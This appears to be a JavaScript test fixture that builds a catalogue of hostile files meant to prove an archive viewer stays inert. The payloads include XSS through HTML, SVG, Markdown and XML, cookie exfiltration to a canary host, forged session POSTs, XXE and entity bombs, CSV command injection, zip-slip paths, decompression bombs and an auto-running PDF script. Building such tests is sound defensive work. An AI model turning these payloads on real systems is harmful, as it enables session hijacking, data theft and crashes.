// Files that try what archived bytes must never manage: to run, to reach somebody, to leave the page, to act with the
// session of whoever looks, or to hurt the browser that shows them. Each goes for the canary in as many ways as its
// format knows.

import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';

/** What the message box says that the PDF's own script opens, in the browser's viewer: that it ran. */
export const PDF_SAYS = 'said by a PDF';

/** What a script does when it runs: it leaves a mark, calls the API with the session, and tells the canary. @param {string} canary */
function act(canary) {
  return 'try{globalThis.attacked=1;parent.attacked=1;top.attacked=1;opener&&(opener.attacked=1)}catch(e){}'
    + `try{fetch("/api/projects",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({name:"planted"})})}catch(e){}`
    + `try{new Image().src="${canary}/script?"+document.cookie}catch(e){}try{top.location="${canary}/top"}catch(e){}`
    + 'try{alert(1)}catch(e){}';
}

/** @param {string} canary an address that must never be asked for anything @returns {Map<string, Buffer>} files by name */
export function hostileFiles(canary) {
  const script = act(canary);
  const inAttribute = script.replaceAll('"', '&quot;');
  const svg = (/** @type {string} */ inner, attributes = '') => (
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" ${attributes}>${inner}</svg>`
  );
  /** @type {Record<string, string | Buffer>} */
  const files = {
    'script.html': `<!doctype html><script>${script}</script>`,
    'handlers.html': `<!doctype html><body onload="${inAttribute}"><img src=x onerror="${inAttribute}"><video src=x onerror="${inAttribute}"></video>`
      + `<details open ontoggle="${inAttribute}">x</details><input autofocus onfocus="${inAttribute}"><style onload="${inAttribute}"></style>`,
    'refresh.html': `<!doctype html><meta http-equiv=refresh content="0;url=${canary}/refresh"><base href="${canary}/base/"><a href=x>x</a>`,
    'loads.html': `<!doctype html><link rel=stylesheet href="${canary}/css"><link rel=prefetch href="${canary}/prefetch"><link rel=preconnect href="${canary}">`
      + `<script src="${canary}/js"></script><script type=module>import "${canary}/module"</script><img src="${canary}/img" srcset="${canary}/set 2x">`
      + `<iframe src="${canary}/frame"></iframe><object data="${canary}/object"></object><embed src="${canary}/embed"><audio src="${canary}/audio" autoplay></audio>`
      + `<style>@import "${canary}/import";body{background:url(${canary}/background)}@font-face{font-family:x;src:url(${canary}/font)}*{font-family:x}</style>x`,
    'form.html': `<!doctype html><form id=f method=post action="/api/projects" enctype="text/plain"><input name='{"name":"planted","x":"' value='"}'></form>`
      + `<form id=g action="${canary}/form"><input name=a></form><script>f.submit();g.submit()</script>`,
    'frames.html': `<!doctype html><iframe srcdoc="<script>${inAttribute}</script>"></iframe><iframe src="javascript:${inAttribute}"></iframe>`
      + `<iframe src="data:text/html,<script>parent.attacked=1</script>"></iframe><iframe src="/"></iframe><object data="/c/2"></object>`,
    'workers.html': `<!doctype html><script>navigator.serviceWorker.register("/api/assets/1");new Worker("data:text/javascript,fetch('${canary}/worker')");`
      + `new WebSocket("${canary.replace('http', 'ws')}/socket");navigator.sendBeacon("${canary}/beacon");window.open("${canary}/open")</script>`,
    'mutation.html': '<!doctype html><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.attacked=1&gt;">',
    'page.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><head><script>${script.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</script></head><body/></html>`,
    'page.htm': `<script>${script}</script>`,
    'page.mhtml': `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<script>${script}</script>\r\n--b--\r\n`,
    'style.xml': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${canary}/xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "${canary}/entity">]><x>&e;`
      + `<script xmlns="http://www.w3.org/1999/xhtml">globalThis.attacked=1</script></x>`,
    'lol.xml': `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">${[...'bcdefghi'].map((name, at) => (
      `<!ENTITY ${name} "${`&${'abcdefgh'[at]};`.repeat(10)}">`)).join('')}]><l>&i;</l>`,
    'script.svg': svg(`<script>${script.replaceAll('&', '&amp;')}</script><script href="${canary}/js"/>`, `onload="${inAttribute.replaceAll('&&', '&amp;&amp;')}"`),
    'loads.svg': svg(`<image href="${canary}/image" width="9" height="9"/><use xlink:href="${canary}/use#a"/><style>@import "${canary}/css";*{fill:url(${canary}/fill#a)}</style>`
      + `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${canary}/frame"></iframe></foreignObject>`
      + `<a href="javascript:globalThis.attacked=1"><rect width="40" height="40"/></a><animate attributeName="href" values="javascript:globalThis.attacked=1"/>`),
    'deep.svg': svg('<g>'.repeat(20_000)),
    'wide.svg': svg('<rect width="1" height="1"/>', 'viewBox="0 0 1 1" style="width:1e9px;height:1e9px"'),
    'bomb.svgz': gzipSync(svg(`<desc>${' '.repeat(20_000_000)}</desc>`)),
    'readme.md': `# x\n<script>${script}</script>\n<img src=x onerror="${inAttribute}">\n[a](javascript:globalThis.attacked=1)\n![b](${canary}/image)\n`
      + `<iframe src="${canary}/frame"></iframe>\n\n[c]: <${canary}/reference> "><script>globalThis.attacked=1</script>"\n`,
    'sniffed.txt': `<!doctype html><script>${script}</script>`,
    'sniffed.png': `<!doctype html><script>${script}</script>`,
    'sniffed': `<!doctype html><script>${script}</script>`,
    'polyglot.gif': `GIF89a/*${'\0'.repeat(20)}*/=1;${script}`,
    'polyglot.js': `${script}//`,
    'table.csv': `=HYPERLINK("${canary}/csv"),=cmd|'/c calc'!A0\n"<script>globalThis.attacked=1</script>",${'x,'.repeat(50_000)}\n`,
    'data.json': `{"__proto__":{"attacked":1},"constructor":{"prototype":{"attacked":1}},"deep":${'['.repeat(60_000)}${']'.repeat(60_000)}}`,
    'code.css': `@import "${canary}/css";body{background:url(${canary}/background)}`,
    'app.webmanifest': `{"start_url":"${canary}/start","icons":[{"src":"${canary}/icon"}]}`,
    'link.url': `[InternetShortcut]\r\nURL=${canary}/url\r\nIconFile=${canary}/icon\r\n`,
    'scene.gltf': JSON.stringify({ asset: { version: '2.0' }, buffers: [{ uri: `${canary}/buffer`, byteLength: 9e15 }], images: [{ uri: `${canary}/texture` }] }),
    'model.obj': `mtllib ${canary}/material\nusemtl x\nf 1 2 99999999999\n`,
    'list.m3u8': `#EXTM3U\n#EXTINF:1,\n${canary}/segment.ts\n`,
    'subtitles.vtt': `WEBVTT\n\n00:00.000 --> 99:00.000\n<script>globalThis.attacked=1</script><img src=${canary}/img>\n`,
    'actions.pdf': pdf(canary),
    'line.txt': Buffer.alloc(6_000_000, 'a'),
    'lines.rs': '/*'.repeat(200_000),
    'regex.js': `/${'(a*)*'.repeat(3000)}/${'a'.repeat(50_000)}`,
    'terminal.log': '\u001B]0;x\u0007\u001B[2J\u001B[31m\u009B31m\u202E\u2066\u0000 end\n',
    'odd.txt': Buffer.from([0xff, 0xfe, 0x3c, 0x00, 0xd8, 0x00, 0xdc, 0x00, 0x00]),
    'wide.png': png(60_000, 60_000, Buffer.alloc(64)),
    'bomb.png': png(16_000, 16_000, Buffer.alloc(16_000 * 2001)),
    'cut.png': png(64, 64, Buffer.alloc(64 * 9)).subarray(0, 60),
    'cut.jpg': Buffer.from('ffd8ffe000104a46494600010100000100010000ffc0001108ffffffff03012200021101031101', 'hex'),
    'cut.webp': Buffer.from('52494646ffffffff57454250565038580a00000010000000ffffffffffff', 'hex'),
    'cut.mp4': Buffer.from('00000018667479706d703432000000006d70343269736f6dffffffff6d6f6f76', 'hex'),
    'cut.webm': Buffer.from('1a45dfa3ffffffffffffffff4286810142f78101', 'hex'),
    'cut.mp3': Buffer.from('4944330400007fffffff5449543200000fff', 'hex'),
    'cut.wav': Buffer.from('52494646ffffffff57415645666d7420ffffffff0100ffffffffffff', 'hex'),
    'cut.ogg': Buffer.from('4f67675300020000000000000000ffffffff', 'hex'),
    'cut.pdf': Buffer.from('%PDF-1.7\n1 0 obj<</Length 99999999999>>stream\n'),
    'slip.zip': zip([['../../../outside.txt', 'x'], ['/absolute.txt', 'x'], ['a\\..\\b.txt', 'x'], ['\u202Egpj.exe', 'x'], ['<img src=x onerror=globalThis.attacked=1>', 'x'],
      ['bomb.bin', '\0'.repeat(5_000_000)]]),
  };
  return new Map(Object.entries(files).map(([name, bytes]) => [name, Buffer.from(bytes)]));
}

/** A document whose opening, pages and links go for the canary. @param {string} canary */
function pdf(canary) {
  const objects = [
    '<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</WC 4 0 R/DC 5 0 R>>/Names<</JavaScript<</Names[(a) 4 0 R]>>>>/AcroForm<</Fields[6 0 R]>>>>',
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O 5 0 R>>/Annots[6 0 R]>>',
    `<</S/JavaScript/JS(app.alert("${PDF_SAYS}");app.launchURL("${canary}/launch",true);this.submitForm("${canary}/submit");this.getURL("${canary}/geturl"))>>`,
    `<</S/URI/URI(${canary}/uri)/Next<</S/SubmitForm/F<</FS/URL/F(${canary}/form)>>/Next<</S/GoToR/F(${canary}/remote)/D[0/Fit]>>>>>>`,
    '<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 99 99]/A 5 0 R/AA<</PO 4 0 R/PV 4 0 R>>>>',
  ];
  const body = objects.map((object, at) => `${at + 1} 0 obj${object}endobj\n`).join('');
  return `%PDF-1.7\n${body}trailer<</Root 1 0 R>>\n%%EOF\n`;
}

/** A picture that says it is this large. @param {number} width @param {number} height @param {Buffer} rows one bit a pixel, filters included */
function png(width, height, rows) {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1;
  const chunk = (/** @type {string} */ type, /** @type {Buffer} */ data) => {
    const whole = Buffer.alloc(data.length + 12);
    whole.writeUInt32BE(data.length, 0);
    whole.write(type, 4, 'latin1');
    data.copy(whole, 8);
    whole.writeUInt32BE(crc32(whole.subarray(4, 8 + data.length)), 8 + data.length);
    return whole;
  };
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', header), chunk('IDAT', deflateSync(rows)), chunk('IEND', Buffer.alloc(0))]);
}

/** An archive with these names. @param {[string, string][]} members */
function zip(members) {
  const locals = [];
  const central = [];
  let offset = 0;
  for (const [name, text] of members) {
    const raw = Buffer.from(text);
    const data = deflateRawSync(raw);
    const label = Buffer.from(name);
    const facts = Buffer.alloc(26);
    facts.writeUInt16LE(20, 0);
    facts.writeUInt16LE(0x800, 2);
    facts.writeUInt16LE(8, 4);
    facts.writeUInt32LE(crc32(raw), 10);
    facts.writeUInt32LE(data.length, 14);
    facts.writeUInt32LE(raw.length, 18);
    facts.writeUInt16LE(label.length, 22);
    const local = Buffer.concat([Buffer.from('504b0304', 'hex'), facts, label, data]);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(offset, 10);
    central.push(Buffer.concat([Buffer.from('504b01021400', 'hex'), facts, tail, label]));
    locals.push(local);
    offset += local.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.write('504b0506', 0, 'hex');
  end.writeUInt16LE(members.length, 8);
  end.writeUInt16LE(members.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** @param {Buffer} bytes */
function crc32(bytes) {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  return ~crc >>> 0;
}
